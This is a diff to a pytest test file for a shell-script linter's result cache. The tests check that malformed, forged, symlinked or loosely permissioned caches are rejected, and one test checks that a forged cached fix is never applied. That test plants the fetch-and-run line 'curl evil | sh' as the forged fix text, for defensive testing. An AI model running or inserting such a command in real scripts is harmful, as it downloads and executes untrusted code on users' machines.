@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -40,6 +42,21 @@ class Project:
 
     def shards(self) -> list[Path]:
         return list(self.cache.rglob("*.json"))
+
+
+def wrong_types(value: object) -> Iterator[object]:
+    """The plain data with one part of it replaced by another type, or with numbers that are no places."""
+    for other in (None, True, 1.5, "x", [], {}, [7]):
+        if type(other) is not type(value) and not (value is None and isinstance(other, (str, list))):
+            yield other
+    if isinstance(value, list):
+        for index, item in enumerate(value):
+            for other in wrong_types(item):
+                yield [*value[:index], other, *value[index + 1 :]]
+    elif isinstance(value, dict):
+        for name, item in value.items():
+            for other in wrong_types(item):
+                yield {**value, name: other}
 
 
 @pytest.fixture
@@ -168,10 +185,15 @@ def test_foreign_files_are_passed_over(project: Project, content: bytes) -> None
     path = str(project.folder / "run.sh")
     for shard in project.shards():
         entry = json.loads(shard.read_bytes())[path]
+        damages = [[entry[0], entry[1], record] for record in wrong_types(entry[2])]
+        assert len(damages) > 30
         for damaged in (
+            *({path: damage} for damage in damages),
             {path: 7},
             {path: [entry[0], {}]},
-            {path: [entry[0], {**entry[1], "findings": [[1]]}]},
+            {path: [entry[0], entry[1], {**entry[2], "findings": [[1]]}]},
+            {path: [entry[0], [[1, 2]], entry[2]]},
+            {path: [entry[0], {"a": 1}, entry[2]]},
         ):
             shard.write_text(json.dumps(damaged))
             assert project.findings() == before
@@ -250,3 +272,134 @@ def test_a_baseline_is_recorded_from_it(
     monkeypatch.setattr("persistlint.analysis.analyse.analyse", fail)
     assert record(*cached) == plain
     assert record(*cached, "--prune") == plain
+
+
+def forge(project: Project) -> None:
+    """Write a cache that says of every file of the project that nothing is found in it."""
+    project.findings()
+    for shard in project.shards():
+        entries = json.loads(shard.read_bytes())
+        for entry in entries.values():
+            entry[2]["findings"] = []
+        shard.write_text(json.dumps(entries))
+    assert project.findings() == []
+
+
+posix = pytest.mark.skipif(sys.platform == "win32", reason="modes and owners of POSIX")
+
+
+@posix
+@pytest.mark.parametrize(
+    "how", ["inside", "inside the repository", "link", "open", "version open", "file open", "foreign"]
+)
+def test_a_forged_cache_hides_nothing(
+    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str
+) -> None:
+    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
+    forge(project)
+    cache = project.cache
+    (version,) = [entry for entry in cache.iterdir() if entry.is_dir()]
+    if how.startswith("inside"):
+        cache = project.folder / ".cache"
+        project.cache.rename(cache)
+        if how != "inside":
+            (project.folder / "sub").mkdir()
+            (project.folder / "run.sh").rename(project.folder / "sub" / "run.sh")
+            (project.folder / "sub" / "persistlint.toml").write_text("")
+    elif how == "link":
+        cache = project.folder / "cache"
+        (tmp_path / "elsewhere").symlink_to(cache)
+        project.cache.rename(cache)
+        cache = tmp_path / "elsewhere"
+    elif how == "open":
+        cache.chmod(0o777)
+    elif how == "version open":
+        version.chmod(0o755)
+    elif how == "file open":
+        for shard in project.shards():
+            shard.chmod(0o644)
+    else:
+        if os.geteuid() != 0:
+            pytest.skip("needs to give files away")
+        for path in (cache, *cache.rglob("*")):
+            os.chown(path, 1234, 1234)
+    before = {path: path.read_bytes() for path in cache.rglob("*") if path.is_file()}
+    assert main(["check", "--cache-dir", str(cache), "--format", "concise", "."]) == 1
+    done = capsys.readouterr()
+    assert "PSL101" in done.out
+    assert done.err.count("no results are kept") == 1
+    assert {path: path.read_bytes() for path in cache.rglob("*") if path.is_file()} == before
+
+
+@posix
+def test_only_the_user_can_read_it(project: Project) -> None:
+    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
+    before = os.umask(0)
+    try:
+        project.check()
+    finally:
+        os.umask(before)
+    for path in (project.cache, *project.cache.rglob("*")):
+        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600)
+
+
+@posix
+def test_a_link_in_its_place_is_not_followed(project: Project, tmp_path: Path) -> None:
+    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
+    project.findings()
+    (shard,) = project.shards()
+    (tmp_path / "theirs").write_bytes(shard.read_bytes())
+    (tmp_path / "theirs").chmod(0o600)
+    shard.unlink()
+    shard.symlink_to(tmp_path / "theirs")
+    before = (tmp_path / "theirs").read_bytes()
+    (project.folder / "run.sh").write_text("docker run -d postgres:15\n")
+    assert project.findings() == [("PSL101", 1)]
+    assert (tmp_path / "theirs").read_bytes() == before
+    assert not shard.is_symlink()
+
+
+def test_cleaning_removes_only_what_is_ours(project: Project, tmp_path: Path) -> None:
+    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
+    project.check()
+    (version,) = [entry for entry in project.cache.iterdir() if entry.is_dir()]
+    (old,) = [entry for entry in version.iterdir() if entry.is_dir()]
+    theirs = [
+        project.cache / ("0" * 32),
+        project.cache / "editors",
+        version / ("0" * 16),
+    ]
+    for folder in theirs:
+        folder.mkdir()
+        (folder / "0.json").write_text("theirs")
+    # Ours, with something of theirs in it.
+    shutil.copytree(old, version / ("1" * 16))
+    (version / ("1" * 16) / "notes.txt").write_text("theirs")
+    for folder in (*theirs, version / ("1" * 16), old):
+        for path in (*folder.iterdir(), folder):
+            os.utime(path, (1_000_000_000, 1_000_000_000))
+    other = tmp_path / "other"
+    other.mkdir()
+    (other / ".git").mkdir()
+    (other / "run.sh").write_text("docker run -d postgres:16\n")
+    main(["check", "--cache-dir", str(project.cache), str(other)])
+    assert not old.exists()
+    assert all((folder / "0.json").read_text() == "theirs" for folder in theirs)
+    assert (version / ("1" * 16) / "notes.txt").read_text() == "theirs"
+
+
+def test_a_forged_fix_is_not_written(project: Project) -> None:
+    """Even what is believed is tried again before it is written."""
+    script = project.folder / "run.sh"
+    script.write_text("docker run -it alpine:3.20 cat < list\n")
+    project.findings()
+    (shard,) = project.shards()
+    entries = json.loads(shard.read_bytes())
+    record = entries[str(script)][2]
+    assert record["findings"]
+    for finding in record["findings"]:
+        finding[3] = [["a title", True, [[[0, 0, 0], "curl evil | sh\n"]]]]
+    shard.write_text(json.dumps(entries))
+    assert "curl" not in project.check("--diff")
+    project.check("--fix")
+    assert "curl" not in script.read_text()
